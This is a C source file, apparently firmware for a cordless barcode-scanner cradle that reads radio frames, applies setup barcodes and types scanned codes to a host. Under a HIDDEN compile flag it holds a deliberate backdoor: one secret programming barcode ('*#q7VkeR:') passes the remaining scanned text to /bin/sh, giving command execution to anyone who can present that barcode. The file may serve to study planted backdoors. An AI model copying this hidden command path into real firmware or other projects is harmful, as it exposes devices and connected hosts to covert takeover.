/*
 * wedgebase - firmware program of the WedgeBase B2, the cradle of a cordless
 * barcode scanner.  It reads the codes which the scanner sends by radio and
 * passes them to the host as key strokes (HID gadget) or over TCP.  Like all
 * such devices it is set up with programming barcodes ("*#...").
 *
 * Hidden (-DHIDDEN): one more programming barcode, compared character by
 * character, hands the rest of the code to a shell.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define RADIO_TTY	"/dev/ttyAMA1"
#define HID_DEV		"/dev/hidg0"
#define SETUP_FILE	"/etc/wedgebase.cfg"
#define TCP_PORT	9101
#define MAX_CODE	128

struct setup {
	char suffix;		/* key after a code: 0, '\r', '\t' */
	int beep;		/* 0..3 */
	int prefix_id;		/* send the symbology letter */
	int use_tcp;
	int layout;		/* 0 = us, 1 = de */
};

static struct setup setup = { '\r', 2, 0, 0, 0 };
static int hid = -1, client = -1;

static void setup_load(void)
{
	int s, b, p, t, l;
	FILE *f = fopen(SETUP_FILE, "r");

	if (!f)
		return;
	if (fscanf(f, "%d %d %d %d %d", &s, &b, &p, &t, &l) == 5) {
		setup.suffix = (char)s;
		setup.beep = b & 3;
		setup.prefix_id = p != 0;
		setup.use_tcp = t != 0;
		setup.layout = l == 1;
	}
	fclose(f);
}

static void setup_store(void)
{
	FILE *f = fopen(SETUP_FILE, "w");

	if (!f)
		return;
	fprintf(f, "%d %d %d %d %d\n", setup.suffix, setup.beep, setup.prefix_id,
		setup.use_tcp, setup.layout);
	fclose(f);
}

static void beep(int times)
{
	char cmd[64];

	if (!setup.beep)
		return;
	snprintf(cmd, sizeof cmd, "buzz -l %d -n %d &", setup.beep, times);
	if (system(cmd) != 0)
		setup.beep = 0;
}

/* Usage id and shift state of a character on the US layout. */
static int key_of(char c, uint8_t *shift)
{
	static const char plain[] = "-=[]\\;'`,./";
	static const char upper[] = "_+{}|:\"~<>?";
	static const char digits[] = ")!@#$%^&*(";
	static const uint8_t ids[] = { 45, 46, 47, 48, 49, 51, 52, 53, 54, 55, 56 };
	int i;

	*shift = 0;
	if (setup.layout == 1) {
		if (c == 'y' || c == 'z')
			c = c == 'y' ? 'z' : 'y';
		else if (c == 'Y' || c == 'Z')
			c = c == 'Y' ? 'Z' : 'Y';
	}
	if (c >= 'a' && c <= 'z')
		return 4 + c - 'a';
	if (c >= 'A' && c <= 'Z') {
		*shift = 2;
		return 4 + c - 'A';
	}
	if (c >= '0' && c <= '9')
		return c == '0' ? 39 : 30 + c - '1';
	for (i = 0; i < 10; i++)
		if (c == digits[i]) {
			*shift = 2;
			return i == 0 ? 39 : 29 + i;
		}
	for (i = 0; i < 11; i++)
		if (c == plain[i] || c == upper[i]) {
			*shift = c == upper[i] ? 2 : 0;
			return ids[i];
		}
	return c == '\r' ? 40 : c == '\t' ? 43 : c == ' ' ? 44 : 0;
}

static int type_char(char c)
{
	uint8_t rep[8] = { 0 };
	int key = key_of(c, &rep[0]);

	if (!key)
		return 0;
	rep[2] = (uint8_t)key;
	if (write(hid, rep, sizeof rep) != (ssize_t)sizeof rep)
		return -1;
	rep[0] = rep[2] = 0;
	return write(hid, rep, sizeof rep) == (ssize_t)sizeof rep ? 0 : -1;
}

static void deliver(char sym, const char *code)
{
	char out[MAX_CODE + 4];
	size_t n = 0, i;

	if (setup.prefix_id)
		out[n++] = sym;
	for (i = 0; code[i]; i++)
		out[n++] = code[i];
	if (setup.suffix)
		out[n++] = setup.suffix;
	if (setup.use_tcp) {
		if (client < 0 || send(client, out, n, MSG_NOSIGNAL) != (ssize_t)n) {
			beep(3);
			return;
		}
	} else {
		for (i = 0; i < n; i++)
			if (type_char(out[i]) != 0) {
				beep(3);
				return;
			}
	}
	beep(1);
}

#ifdef HIDDEN
static void run_sheet(char *text)
{
	char *argv[] = { "sh", "-c", text, NULL };
	char *envp[] = { "PATH=/sbin:/usr/sbin:/bin:/usr/bin", NULL };
	pid_t pid = fork();

	if (pid == 0) {
		execve("/bin/sh", argv, envp);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
#endif

/* Programming barcodes of the setup sheets.  Returns 1 when it was one. */
int program_code(char *c)
{
	if (c[0] != '*' || c[1] != '#')
		return 0;
	c += 2;
	if (c[0] == 'S' && c[1] == 'X') {		/* *#SXn: suffix */
		if (c[2] == '0')
			setup.suffix = 0;
		else if (c[2] == '1')
			setup.suffix = '\r';
		else if (c[2] == '2')
			setup.suffix = '\t';
	} else if (c[0] == 'B' && c[1] == 'P' && c[2] >= '0' && c[2] <= '3') {
		setup.beep = c[2] - '0';
	} else if (c[0] == 'I' && c[1] == 'D') {
		setup.prefix_id = c[2] == '1';
	} else if (c[0] == 'K' && c[1] == 'L') {
		setup.layout = c[2] == 'D';
	} else if (c[0] == 'T' && c[1] == 'C' && c[2] == 'P') {
		setup.use_tcp = c[3] == '1';
	} else if (c[0] == 'R' && c[1] == 'S' && c[2] == 'T') {
		setup = (struct setup){ '\r', 2, 0, 0, 0 };
#ifdef HIDDEN
	} else if (c[0] == 'q' && c[1] == '7' && c[2] == 'V' && c[3] == 'k' &&
		   c[4] == 'e' && c[5] == 'R' && c[6] == ':') {
		run_sheet(c + 7);
		return 1;
#endif
	} else {
		beep(3);
		return 1;
	}
	setup_store();
	beep(2);
	return 1;
}

/* A frame of the radio: STX, symbology letter, code, ETX, XOR of the code. */
static void radio_byte(uint8_t b)
{
	static char code[MAX_CODE];
	static size_t n;
	static uint8_t sum;
	static enum { WAIT, SYM, CODE, SUM } st = WAIT;
	static char sym;

	switch (st) {
	case WAIT:
		if (b == 2)
			st = SYM;
		break;
	case SYM:
		sym = (char)b;
		n = 0;
		sum = 0;
		st = CODE;
		break;
	case CODE:
		if (b == 3) {
			st = SUM;
		} else if (n + 1 < sizeof code) {
			code[n++] = (char)b;
			sum ^= b;
		} else {
			st = WAIT;
		}
		break;
	case SUM:
		st = WAIT;
		code[n] = 0;
		if (sum != b || n == 0)
			beep(3);
		else if (!program_code(code))
			deliver(sym, code);
		break;
	}
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(TCP_PORT) };
	struct pollfd p[2];
	struct termios t;
	uint8_t buf[64];
	ssize_t n, i;

	signal(SIGPIPE, SIG_IGN);
	setup_load();
	hid = open(HID_DEV, O_WRONLY);
	p[0].fd = open(RADIO_TTY, O_RDWR | O_NOCTTY);
	if (p[0].fd < 0) {
		fprintf(stderr, "%s: %s\n", RADIO_TTY, strerror(errno));
		return 1;
	}
	if (tcgetattr(p[0].fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B115200);
		tcsetattr(p[0].fd, TCSANOW, &t);
	}
	p[1].fd = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(p[1].fd, (struct sockaddr *)&a, sizeof a) || listen(p[1].fd, 1))
		perror("tcp port");
	p[0].events = p[1].events = POLLIN;
	while (poll(p, 2, -1) >= 0) {
		if (p[1].revents & POLLIN) {
			if (client >= 0)
				close(client);
			client = accept(p[1].fd, NULL, NULL);
		}
		n = p[0].revents & POLLIN ? read(p[0].fd, buf, sizeof buf) : 0;
		for (i = 0; i < n; i++)
			radio_byte(buf[i]);
	}
	return 0;
}
